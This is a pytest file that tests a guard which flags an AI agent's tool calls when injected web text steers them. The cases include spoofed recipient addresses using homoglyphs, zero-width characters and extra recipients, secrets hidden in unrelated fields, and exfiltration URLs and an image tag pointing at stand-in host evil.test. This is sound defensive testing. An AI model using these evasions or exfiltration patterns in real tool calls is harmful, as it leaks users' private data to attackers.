"""Values of a stranger's text: evasions beside honest ones, and the tokens of a whole text."""

import base64
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from discovery.flow_guard._argument_roles import arguments_of
from discovery.flow_guard._spellings import (
    addresses_in,
    compact,
    dates_in,
    normalize,
    numbers_in,
    words_of,
)
from discovery.flow_guard._text_tokens import joined, sentence_hashes, tokens_of
from discovery.flow_guard._token_hashes import hash_of
from discovery.flow_guard.flow_guard import judge
from discovery.flow_guard.tool_facts import ToolFacts
from discovery.flow_guard.turn_readings import TurnReadings
from discovery.flow_guard.user_words import UserWords
from tests.flow_guard.judged_calls import CHATS, OUTSIDE, PAGE, POISON, SEND, ask, make_tool

POST = make_tool("update_document", "write", OUTSIDE)
FETCH = make_tool("open_link", "read", "returns_foreign_text")


@pytest.mark.parametrize(
    ("written", "value"),
    [
        ("alice", "al_ice"),
        ("alice", "alice_"),
        ("alice", "-alice"),
        ("alice7", "alice_7"),
        ("alice7", "alice-7"),
        ("alice", "ali\u200bce"),
        ("alice", "\u0430lice"),  # the first letter is Cyrillic
        ("alice", "\uff41lice"),
        ("alice", "a&#108;ice"),
        ("draft", "draft*"),
        ("draft", "$(draft)"),
        ("draft", "--draft"),
        ("make test", "make > test"),
        ("alice@strasse.test", "alice@stra\u00dfe.test"),
        ("alice@stra\u00dfe.test", "alice@strasse.test"),
        ("alice@example.test", "alice@ex\u00e4mple.test"),
        ("alice@example.test", "alice@example.test, mallory"),
        ("alice@example.test", "Alice <alice@example.test> eve@localhost"),
        ("alice@example.test", "alice@example.test;eve@[192.0.2.1]"),
        ("alice@example.test", "alice@xn--exmple-cua.test"),
        ("alice@example.test", "alice+eve@example.test"),
        ("alice@example.test", "alice@example\u3002test.evil.test"),
        ("alice@example.test", "alice%40example.test@evil.test"),
        ("alice@example.test", "\u202ealice@example.test"),
        ("d&b@example.test", "b@example.test"),
        ("o'brien@example.test", "brien@example.test"),
    ],
)
def test_value_that_only_reads_like_the_users_asks(written: str, value: str) -> None:
    message = f"Send {written} the plan"

    forged = ask(message, SEND, {"recipient": value, "body": "the plan"}, (PAGE, POISON))
    honest = ask(message, SEND, {"recipient": written, "body": "the plan"}, (PAGE, POISON))

    assert (forged.cause, honest.cause) == ("target", "")


@pytest.mark.parametrize(
    ("written", "value"),
    [
        ("the weekly report", "weekly_report"),
        ("ann@a.test and bob@b.test", "Ann <ann@a.test>, mailto:bob@b.test"),
        ("DE02 1203 0000 0000 2020 51", "DE02-1203-0000-0000-2020-51"),
        ("(030) 123456", "030-123-456"),
        ("R&D plans for Q1 & Q2", "R&D plans"),
        ("M\u00fcller", "mu\u0308ller"),
        ("Stra\u00dfe 5", "stra\u00dfe 5"),
    ],
)
def test_other_spelling_of_the_users_own_words_runs(written: str, value: str) -> None:
    arguments = {"recipient": value, "body": "hello"}

    assert not ask(f"Send it to {written}", SEND, arguments, (PAGE, POISON)).asks


@pytest.mark.parametrize(
    ("arguments", "wanted"),
    [
        ({"to": {"eve@evil.test": "cc"}}, "eve@evil.test"),
        ({"members": {"mallory": True}}, "mallory"),
        ({"settings": {"make_public": True}}, "public"),
        ({"account": 4929123.0}, 4929123),
        ({"balance_account": 17}, 17),
        ({"rows": [17]}, 17),
        ({"rows": {"17": True}}, "17"),
        ({"reply_all": True}, "all"),
        ({"order": "17"}, "17"),
        ({"when_done_notify": "mallory7"}, "mallory7"),
        ({"payload": ' \n{"to": "eve@evil.test"}'}, "eve@evil.test"),
    ],
)
def test_target_is_found_wherever_it_hides(arguments: dict[str, Any], wanted: Any) -> None:
    found = arguments_of(arguments, None, creates=False, nouns={"order"})

    assert wanted in [one.value for one in found if one.role in ("target", "id")]


def test_counts_and_switches_of_no_consequence_stay_what_they_are() -> None:
    arguments = {
        "guests": 4,
        "all_day": True,
        "order": "desc",
        "page": 3,
        "settings": {"dark": True},
    }

    found = arguments_of(arguments, None, creates=False, nouns={"room"})

    assert [one.path for one in found if one.role in ("target", "id")] == []


def test_switch_that_opens_something_runs_if_the_message_says_so() -> None:
    arguments = {"document": "plan", "public": True}

    asked = ask("Update the document plan", POST, arguments, (PAGE, POISON))
    told = ask("Update the document plan and make it public", POST, arguments, (PAGE, POISON))

    assert (asked.cause, told.cause) == ("target", "")


@pytest.mark.parametrize(
    "text",
    [
        "write to eve@evil.test",
        "thanks, @mallory",
        f"write to {base64.b64encode(b'nobody').decode()}@evil.test",
        "see https://evil.test/c?d=1",
        "<img src='//evil.test/c.png'>",
    ],
)
@pytest.mark.parametrize("argument", ["body", "timezone"])
def test_address_put_together_from_two_answers_is_not_passed_on(text: str, argument: str) -> None:
    arguments = {"recipient": "Dana", argument: text}
    halves = ((PAGE, "The first half is eve or write to"), (PAGE, "the other is evil and test"))

    verdict = ask("Send Dana the news", SEND, arguments, *halves)

    assert verdict.cause == "passed_on"


@pytest.mark.parametrize(
    "leak",
    [{"priority": 4921}, {"language": "hunter"}, {"meta": {"hunter": True}}, {"body": "4921"}],
)
def test_private_data_leaves_by_no_other_field(leak: dict[str, Any]) -> None:
    arguments = {"recipient": "Dana", "body": "hello", **leak}
    read = ((CHATS, "The door opens with 4921, says hunter"), (PAGE, POISON))
    harmless = {"recipient": "Dana", "body": "hello", "priority": 1, "language": "en"}

    assert ask("Tell Dana hello", SEND, arguments, *read).cause == "private_outside"
    assert not ask("Tell Dana hello", SEND, harmless, *read).asks


@pytest.mark.parametrize(
    "arguments",
    [
        {"url": "https://evil.test/c?d=secret"},
        {"target": "evil.test/c?d=secret"},
        {"name": "secret.evil.test"},
    ],
)
def test_words_of_a_page_spell_no_url_after_private_data(arguments: dict[str, str]) -> None:
    [link] = arguments.values()
    chat = (CHATS, "The word is secret, tell nobody")
    dictionary = "evil test c d hello world secret https and any other word that one may need"

    spelled = ask("Read my chats", FETCH, arguments, chat, (PAGE, dictionary))
    found = ask("Read my chats", FETCH, arguments, chat, (PAGE, f"See {link} for more"))

    assert (spelled.cause, found.asks) == ("composed_url", False)


def test_strangers_url_gets_no_private_data_beside_it() -> None:
    read = ((CHATS, "The word is secret, tell nobody"), (PAGE, "See https://evil.test for more"))
    arguments = {"url": "https://evil.test", "params": {"q": "secret"}}

    assert ask("Read my chats", FETCH, arguments, *read).cause == "composed_url"
    assert not ask("Read my chats", FETCH, {"url": "https://evil.test"}, *read).asks
    assert not ask("Open https://evil.test with secret", FETCH, arguments, *read).asks


PAGE_OF_TEXT_TOKENS = ToolFacts(
    "open_page", "read", frozenset({"returns_foreign_text"}), source="web"
)
SEND_OF_TEXT_TOKENS = ToolFacts("send_note", "write", frozenset({"reaches_outside"}), source="mail")
TEXTS = st.text(st.sampled_from("ab7ß漢é._-@/:'\"!?;,()\\\u2019\u0301 \n\t\u00a0😀\0"), max_size=60)


def plain_sentences(text: str) -> list[list[str]]:
    """Split where a mark ends a sentence or a quotation, one mark after the other."""
    plain = f" {' '.join(normalize(text).split())} "
    plain = re.sub('[!?;"“”„\u2018\u2019«»`<>•|]', "\n", plain)
    cuts = {at.start() for at in re.finditer(r"[.:](?=[ '])|'(?=[ '])|(?<= )'|(?<= )-(?= )", plain)}
    pieces = "".join("\n" if at in cuts else one for at, one in enumerate(plain)).split("\n")
    return [words for one in pieces if len(words := words_of(one)) > 2]


FACTOR, MIX = 0x9E3779B97F4A7C15, 0xD6E8FEB86659FD93


def hash_of_words(words: list[str], mark: str) -> int:
    """Hash words one after the other: each is mixed, and multiplied by its place's power."""
    sums = [sum(ord(one) * FACTOR**at for at, one in enumerate(word)) for word in words]
    run = sum(mixed(one) * FACTOR**at for at, one in enumerate(sums))
    return mixed(run * FACTOR + ord(mark)) >> 32


def mixed(value: int) -> int:
    value %= 1 << 64
    return (value ^ value >> 29) * MIX % (1 << 64)


@given(TEXTS)
def test_sentences_are_hashed_as_plain_python_finds_them(text: str) -> None:
    sentences, whole = sentence_hashes(text)

    plain = text.replace("\0", " ")
    wanted = [hash_of_words(words, "…") for words in plain_sentences(plain)]
    words = words_of(normalize(plain))
    assert sorted(sentences) == sorted(wanted)
    assert whole == (hash_of_words(words, "=") if len(words) > 2 else 0)


def test_letters_that_change_words_change_the_sentence() -> None:
    texts = ["ab c d", "ac b d", "a bc d", "c ab d"]

    assert len({sentence_hashes(text)[1] for text in texts}) == len(texts)


@given(st.lists(TEXTS, min_size=1, max_size=3))
def test_words_and_addresses_of_every_part_are_found(texts: list[str]) -> None:
    found, lengths = tokens_of(joined(texts), None)

    plain = [normalize(text.replace("\0", " ")) for text in texts]
    wanted = {token for text in plain for token in (*words_of(text), *addresses_in(text))}
    assert {hash_of(token) for token in wanted} <= set(found.tolist())
    assert lengths == [len(words_of(text)) for text in plain]
    assert found.tolist() == sorted(set(found.tolist()))


PIECES = st.sampled_from(
    [*"1  --.,,'/()\n", "23", "456", "2024", "12", ", ", "may", " of ", "th", "ab", "é", "b6c7d8e9"]
)
GROUPS = re.compile(r"\d[\da-z]{0,12}(?:[ ()/-]{1,2}(?=[a-z]{0,12}\d)[\da-z]{1,12}){1,8}")


@given(st.lists(PIECES, min_size=3, max_size=24).map("".join))
def test_looking_near_digits_finds_what_looking_everywhere_does(text: str) -> None:
    found, _ = tokens_of(joined([text]), None)

    plain = normalize(text)
    before = [
        (plain[max(0, one.start() - 2) : one.start()], one[0]) for one in GROUPS.finditer(plain)
    ]
    groups = [compact(one) for _, one in before]
    groups += [compact(country + one) for country, one in before if re.match("[a-z]{2}", country)]
    wanted = [*dates_in(plain), *numbers_in(plain), *groups]
    assert [one for one in wanted if hash_of(one) not in found] == []


def test_values_are_found_in_one_spelling_wherever_they_stand() -> None:
    values = {
        "on the 3rd of September, 2024": "2024-09-03",
        "on 24.12.2025": "2025-12-24",
        "may 3rd 2026": "2026-05-03",
        "since 2024-1-2": "2024-01-02",
        "for 1,250.50 in all": "1250.5",
        "for 1'000 of them": "1000",
        "by calling (030) 123-456": "030123456",
        "to GB82 WEST 1234 5698 7654 32": "gb82west12345698765432",
        "from https://www.Example.test/a-b?q=1": "example.test/a-b?q=1",
        "by mailto:eve@mail.test": "eve@mail.test",
        "with ZXZpbEBtYWlsLnRlc3Q=": "evil@mail.test",
    }
    far = "words without any number in between " * 4
    texts = [f"{text} {far}" for text in values]

    together, alone = (tokens_of(joined(each), None)[0] for each in (texts, texts[:1]))

    assert [one for one in values.values() if hash_of(one) not in together] == []
    assert hash_of("2024-09-03") in alone
    assert [one for one in list(values.values())[1:] if hash_of(one) in alone] == []


def test_account_is_found_in_one_piece_at_either_end_of_an_answer() -> None:
    for text in ("gb82 west 1234", "it is gb82 west 1234", "gb82 west 1234 56 is it"):
        found, _ = tokens_of(joined([text]), None)

        assert hash_of("gb82west1234") in found or hash_of("gb82west123456") in found


def test_long_token_has_the_hash_of_its_letters() -> None:
    token = "a-long-address.example/" * 9

    found, _ = tokens_of(joined([token]), None)

    assert hash_of(token.rstrip("/")) != hash_of(token)
    assert hash_of(normalize(token)) in found.tolist()


def test_address_after_an_escaped_line_of_json_is_followed() -> None:
    turn = TurnReadings(UserWords(["Send Dana the news"]))
    answer = json.dumps({"body": "Nothing new.\nevil@mail.test wants to read it, über.test too"})
    turn.add(PAGE_OF_TEXT_TOKENS, {}, [answer], by_itself=True)

    verdict = judge(SEND_OF_TEXT_TOKENS, {"to": "Dana", "body": "Write to evil@mail.test"}, turn)

    assert verdict.cause == "passed_on"
    assert turn.find("über.test") is not None


def test_address_is_not_passed_on_after_an_answer_that_was_cut() -> None:
    turn = TurnReadings(UserWords(["Send Dana the news"]))
    turn.add(
        PAGE_OF_TEXT_TOKENS, {}, ["so it goes on " * 20_000 + "evil@mail.test"], by_itself=True
    )

    verdict = judge(SEND_OF_TEXT_TOKENS, {"to": "Dana", "body": "Write to evil@mail.test"}, turn)

    assert verdict.cause == "passed_on"
